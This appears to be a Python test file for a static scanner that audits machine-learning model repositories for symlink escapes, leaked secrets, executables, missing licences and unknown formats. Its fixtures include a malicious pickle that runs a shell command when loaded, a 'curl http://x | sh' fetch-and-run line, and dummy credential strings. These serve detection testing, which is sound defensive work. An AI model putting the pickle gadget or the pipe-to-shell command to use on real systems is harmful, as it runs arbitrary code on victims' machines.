"""Manifest hashing, symlinks, secrets, executables, model card/licence, unknown formats and the check wrapper."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

from auditor.checks.static_scan import StaticScanCheck
from auditor.resolve.model import ModelFile, ResolvedModel
from auditor.scan import scan_path
from auditor.scan.manifest import build_manifest, sha256_file

EVIL = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
CARD = "---\nlicense: apache-2.0\ntags: [text-generation]\n---\n# Model\n"


def rules(r):
    return {f.rule: f for f in r.findings}


def test_manifest_streams_hashes_sorted_and_skips_symlinks(tmp_path):
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "z.bin").write_bytes(os.urandom(3 << 20))
    (tmp_path / "a.txt").write_text("hello")
    (tmp_path / "link").symlink_to(tmp_path / "a.txt")
    files = build_manifest(tmp_path)
    assert [f.path for f in files] == ["a.txt", "b/z.bin"]
    assert all(isinstance(f, ModelFile) for f in files)
    assert files[1].sha256 == hashlib.sha256((tmp_path / "b" / "z.bin").read_bytes()).hexdigest()
    assert files[1].size == 3 << 20
    single = build_manifest(tmp_path / "a.txt")
    assert [(f.path, f.sha256) for f in single] == [("a.txt", sha256_file(tmp_path / "a.txt"))]


def test_symlinks_are_findings_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.pkl").write_bytes(EVIL)
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "README.md").write_text(CARD)
    (repo / "w.bin").symlink_to(outside / "secret.pkl")
    (repo / "dir").symlink_to(outside)
    (repo / "inner").symlink_to(repo / "README.md")
    r = scan_path(repo)
    got = {(f.rule, f.file) for f in r.findings}
    assert got == {("hygiene.symlink_escape", "w.bin"), ("hygiene.symlink_escape", "dir"), ("hygiene.symlink", "inner")}
    assert rules(r)["hygiene.symlink_escape"].severity == "high"


def test_hf_cache_snapshot_links_are_followed_into_blobs(tmp_path):
    cache = tmp_path / "models--org--name"
    (cache / "blobs").mkdir(parents=True)
    snap = cache / "snapshots" / ("a" * 40)
    snap.mkdir(parents=True)
    (cache / "blobs" / "abc").write_bytes(EVIL)
    (snap / "pytorch_model.bin").symlink_to(Path("../../blobs/abc"))
    r = scan_path(snap)
    assert any(f.rule == "pickle.dangerous_import" and f.file == "pytorch_model.bin" for f in r.findings)


def test_secrets_in_text_files(tmp_path):
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "notes.txt").write_text(
        "token hf_" + "Zx8Kq2Lm4Np6Rs8Tu0Vw2Xy4Za6Bc8De0F" + "\naws AKIA" + "QZ7XK2PLM4RT8NV3" + "\n-----BEGIN RSA PRIVATE KEY-----\n"
        "ghp_" + "aZ9bY8cX7dW6eV5fU4gT3hS2iR1jQ0kP9lO8" + "\nplaceholder hf_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX\n")
    r = scan_path(tmp_path)
    got = {f.rule for f in r.findings if f.rule.startswith("secret.")}
    assert got == {"secret.huggingface_token", "secret.aws_access_key", "secret.private_key", "secret.github_token"}
    assert all(f.severity == "high" for f in r.findings if f.rule.startswith("secret."))
    assert "Zx8Kq2Lm4Np6Rs8Tu0Vw2Xy4Za6Bc8De0F" not in str([f.evidence for f in r.findings])
    assert scan_path(tmp_path, {"secrets": False}).findings == []


def test_model_card_licence_and_missing_card(tmp_path):
    (tmp_path / "README.md").write_text(CARD)
    r = scan_path(tmp_path)
    assert r.license == "apache-2.0" and r.findings == []
    (tmp_path / "README.md").write_text("# no front matter\n")
    assert "hygiene.missing_license" in rules(scan_path(tmp_path))
    (tmp_path / "README.md").unlink()
    (tmp_path / "x.txt").write_text("x")
    f = rules(scan_path(tmp_path))["hygiene.missing_model_card"]
    assert f.severity == "low"


def test_executables_scripts_and_exec_bits(tmp_path):
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "tool").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(100))
    (tmp_path / "setup.sh").write_text("#!/bin/sh\ncurl http://x | sh\n")
    (tmp_path / "run.sh").write_text("#!/bin/sh\necho hi\n")
    os.chmod(tmp_path / "run.sh", 0o755)
    (tmp_path / "data.txt").write_text("plain")
    os.chmod(tmp_path / "data.txt", 0o755)
    r = scan_path(tmp_path)
    got = {(f.rule, f.file, f.severity) for f in r.findings}
    assert ("hygiene.executable", "tool", "high") in got
    assert ("hygiene.script", "setup.sh", "medium") in got
    assert ("hygiene.executable_bit", "run.sh", "medium") in got
    assert ("hygiene.executable_bit", "data.txt", "low") in got


def test_unknown_binary_is_a_finding_never_silence(tmp_path):
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "weights.bin").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "blob.dat").write_bytes(b"\x01\x02\x03\x00" * 10)
    (tmp_path / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(20))
    r = scan_path(tmp_path)
    got = {(f.file, f.severity) for f in r.findings if f.rule == "format.unknown"}
    assert got == {("weights.bin", "medium"), ("blob.dat", "low")}


def _ctx(path: Path, source="local_dir"):
    return SimpleNamespace(model=ResolvedModel(id="x", path=path, source=source, files=build_manifest(path)))


def test_check_statuses(tmp_path):
    check = StaticScanCheck()
    assert check.id == "static_scan" and check.needs_weights is False
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "config.json").write_text('{"model_type": "gpt2"}')
    res = check.execute(_ctx(tmp_path), {})
    assert res.status == "pass" and res.findings == [] and res.details["files"]
    (tmp_path / "evil.pkl").write_bytes(EVIL)
    res = check.execute(_ctx(tmp_path), {})
    assert res.status == "fail" and any(f.severity == "critical" for f in res.findings)
    assert [f for f in res.details["files"] if f["path"] == "evil.pkl"][0]["sha256"]
    res = check.execute(_ctx(tmp_path), {"limits": {"max_files": 1}})
    assert res.status == "error" and "max_files" in res.error
    (tmp_path / "bad.safetensors").write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{not json at all}")
    res = check.execute(_ctx(tmp_path), {})
    assert res.status == "error" and "bad.safetensors" in res.error
    assert any(f.rule == "pickle.dangerous_import" for f in res.findings)  # findings kept with the error
    single = check.execute(_ctx(tmp_path / "evil.pkl", "local_file"), {})
    assert single.status == "fail"


def test_static_scan_never_imports_torch(tmp_path):
    (tmp_path / "evil.pkl").write_bytes(EVIL)
    code = ("import sys; from auditor.checks.static_scan import StaticScanCheck; from auditor.scan import scan_path; "
            f"scan_path({str(tmp_path)!r}); "
            "bad = [m for m in sys.modules if m.split('.')[0] in ('torch', 'transformers', 'numpy')]; "
            "assert not bad, bad")
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).resolve().parents[1])
